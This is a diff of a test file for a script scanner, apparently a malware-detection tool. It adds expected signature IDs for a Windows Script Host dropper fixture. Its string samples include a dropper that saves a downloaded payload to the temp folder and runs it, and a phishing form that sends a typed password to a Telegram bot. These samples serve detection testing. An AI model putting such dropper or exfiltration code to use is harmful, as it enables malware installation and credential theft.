@@ -97,7 +97,8 @@ def test_default_rules_find_a_wsh_dropper_and_telegram_exfil(use_re2: bool) -> N
     s.Open(); s.Write(x.responseBody); s.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe", 2);
     sh.Run("%TEMP%\\\\a.exe");"""
     result = scan(layer, "file:///tmp/invoice.js", scripts=[dropper])
-    assert {"signatures.wsh_download_execute", "signatures.wsh_shell_object"} <= ids(result)
+    assert {"signatures.wsh_download_execute", "signatures.wsh_shell_object", "signatures.wsh_save_response",
+            "signatures.wsh_fetch_and_run"} <= ids(result)
     kit = """<form id=f><input type=password id=p></form><script>
     var token = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0";
     fetch("https://api.telegram.org/bot" + token + "/sendMessage?chat_id=99&text=" + p.value);
